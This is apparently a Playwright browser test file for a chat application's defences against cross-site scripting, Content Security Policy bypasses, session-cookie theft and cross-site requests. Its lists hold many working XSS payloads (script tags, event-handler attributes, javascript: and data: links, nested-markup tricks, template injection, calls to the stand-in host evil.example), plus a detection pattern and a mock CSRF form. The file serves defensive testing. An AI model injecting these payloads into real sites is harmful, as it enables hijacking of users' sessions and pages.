"""What other people write, and other sites do, runs nothing here."""

import json

import pytest
from playwright.sync_api import Route, expect

from tests.browser.conftest import People

# HTML that must be read as it was written.
SHOWN = [
    "<script>window.hacked = 1</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<form><button formaction=javascript:window.hacked=1>X</button></form>",
    "<details open ontoggle=window.hacked=1>",
    "<body onpageshow=window.hacked=1>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<input autofocus onfocus=window.hacked=1>",
    "<video src=//evil.example/x onerror=window.hacked=1></video>",
    "<a href=javascript:window.hacked=1>press me</a>",
    '"><img src=x onerror=window.hacked=1>',
    "{{constructor.constructor('window.hacked=1')()}}",
    "<template><script>window.hacked=1</script></template>",
]
# Markdown that must not become a way out.
DEFUSED = [
    "[press me](javascript:window.hacked=1)",
    "[press me](JaVaScRiPt&colon;window.hacked=1)",
    "[press me](data:text/html,<script>window.hacked=1</script>)",
    "[press me](vbscript:msgbox(1))",
    "<javascript:window.hacked=1>",
    "![picture](https://evil.example/x.png)",
    "![picture](x onerror=window.hacked=1)",
    "[press me]: javascript:window.hacked=1\n\n[press me]",
    '[press me](https://example.org "\\" onmouseover=window.hacked=1 x=\\"")',
    'https://example.org/"onmouseover=window.hacked=1//',
    "`<img src=x onerror=window.hacked=1>`",
    "```<img src=x onerror=window.hacked=1>\n<img src=x onerror=window.hacked=1>\n```",
    "> " * 500 + "<img src=x onerror=window.hacked=1>",
]
ESCAPES = """(root) => {
  const elements = /^(script|iframe|img|object|embed|form|style|base|meta|video)$/i;
  const found = [];
  for (const element of root.querySelectorAll("*")) {
    if (elements.test(element.localName) && !element.matches("form.composer"))
      found.push(element.outerHTML);
    for (const { name, value } of element.attributes)
      if (/^on/i.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value))
        found.push(name + value);
  }
  return found;
}"""


# What the page's policy stops, by the directive that does.
ATTACKS = {
    "script-src-elem": """
        const script = document.createElement("script");
        script.textContent = "hacked = 1";
        document.body.append(script);""",
    "script-src-attr": "document.body.innerHTML = '<img src=/static/x onerror=hacked=1>'",
    "script-src": "setTimeout('hacked = 1')",
    "frame-src": """
        const frame = document.createElement("iframe");
        frame.src = "/login";
        document.body.append(frame);""",
    "style-src-attr": "document.body.setAttribute('style', 'color: red')",
    "connect-src": "fetch('https://evil.example/').catch(() => 0)",
    "img-src": "new Image().src = 'https://evil.example/x.png'",
}


def test_hostile_texts_run_nothing_and_show_as_text(person: People) -> None:
    mallory, alice = person("Mallory"), person("Alice")
    room = mallory.create_room(alice)
    for text in (*SHOWN, *DEFUSED):
        mallory.post(room, text)

    alice.open(room)
    # Written while she looks, too: then it comes by the socket.
    mallory.post(room, SHOWN[2])
    expect(alice.texts).to_have_count(len(SHOWN) + len(DEFUSED) + 1)

    shown = alice.texts.all_inner_texts()
    for text, seen in zip(SHOWN, shown, strict=False):
        # Quotes may have become typographic.
        assert _plain(seen) == _plain(text)
    assert alice.history.locator(".text").evaluate_all(f"(texts) => texts.flatMap({ESCAPES})") == []
    schemes = alice.texts.get_by_role("link").evaluate_all("links => links.map((a) => a.protocol)")
    assert set(schemes) <= {"http:", "https:"}
    assert alice.page.evaluate("window.hacked") is None


def _plain(text: str) -> str:
    return " ".join(text.translate({0x201C: '"', 0x201D: '"', 0x2018: "'", 0x2019: "'"}).split())


@pytest.mark.parametrize("hostile", ["<img src=x onerror=hacked=1>", '"><svg onload=hacked=1>'])
def test_hostile_names_and_topics_show_as_text(person: People, hostile: str) -> None:
    mallory, alice = person("Mallory"), person("Alice")
    mallory.call("PATCH", "users/me", {"display_name": hostile})
    room = mallory.create_room(alice, topic=hostile)
    mallory.post(room, f"@{alice.username} hi")
    mallory.open(room)

    alice.open(room)
    mallory.composer.press_sequentially("typing")
    expect(alice.page.locator(".typing")).to_have_text(f"{hostile} is typing…")
    alice.composer.press_sequentially("@mall")

    expect(alice.page.get_by_role("option").first).to_contain_text(hostile)
    expect(alice.page.locator(".room-header__topic")).to_have_text(hostile)
    expect(alice.page.locator(".message__author").first).to_have_text(hostile)
    expect(alice.page.get_by_role("complementary", name="Members")).to_contain_text(hostile)
    for someone in (mallory, alice):
        assert someone.page.locator("body").evaluate(ESCAPES) == []
        assert someone.page.evaluate("window.hacked") is None


@pytest.mark.parametrize("directive", ATTACKS)
def test_the_policy_stops_what_would_get_into_the_page(person: People, directive: str) -> None:
    alice = person("Alice", is_known=False)
    alice.page.goto("/login")
    alice.expect_trouble(r"violates the|violate the|Refused to|status of 404|evil\.example")

    with alice.page.expect_event(
        "console", lambda message: f"violates the policy: {directive} " in message.text
    ):
        alice.page.evaluate(f"() => {{ {ATTACKS[directive]} }}")

    assert alice.page.evaluate("window.hacked") is None


def test_the_session_is_out_of_reach_of_scripts_and_of_other_sites(person: People) -> None:
    alice = person("Alice")
    room = alice.create_room()
    alice.open(room)
    alice.composer.fill("a draft, so that something is stored")

    (session,) = (each for each in alice.context.cookies() if "session" in each["name"])
    stored = json.dumps(
        alice.page.evaluate("({ ...localStorage, ...sessionStorage })"), ensure_ascii=False
    )

    assert session["httpOnly"]
    assert session["sameSite"] == "Lax"
    assert session["secure"] == alice.server.url.startswith("https:")
    assert session["domain"] == "127.0.0.1"
    assert session["path"] == "/"
    assert alice.page.evaluate("document.cookie") == ""
    assert "a draft" in stored
    assert session["value"] not in stored
    assert session["value"] not in alice.page.content()


def test_another_site_neither_posts_nor_opens_a_socket_in_my_name(person: People) -> None:
    alice = person("Alice")
    room = alice.create_room()
    evil = alice.new_page()
    alice.expect_trouble(r"asked a stranger: http://localhost|WebSocket connection to|403|favicon")
    url = alice.server.url

    def serve(route: Route) -> None:
        form = f"<form method=post action={url}/logout><button>win a prize</button></form>"
        route.fulfill(body=form, content_type="text/html")

    evil.route("http://localhost/**", serve)
    evil.goto("http://localhost/")
    closed = evil.evaluate(
        f"""() => new Promise((resolve) => {{
          const socket = new WebSocket("{alice.socket_url}");
          socket.onopen = () => resolve("open");
          socket.onclose = () => resolve("refused");
        }})"""
    )
    evil.get_by_role("button").click()

    assert closed == "refused"
    expect(evil.get_by_text("403")).to_be_visible()
    alice.open(room)
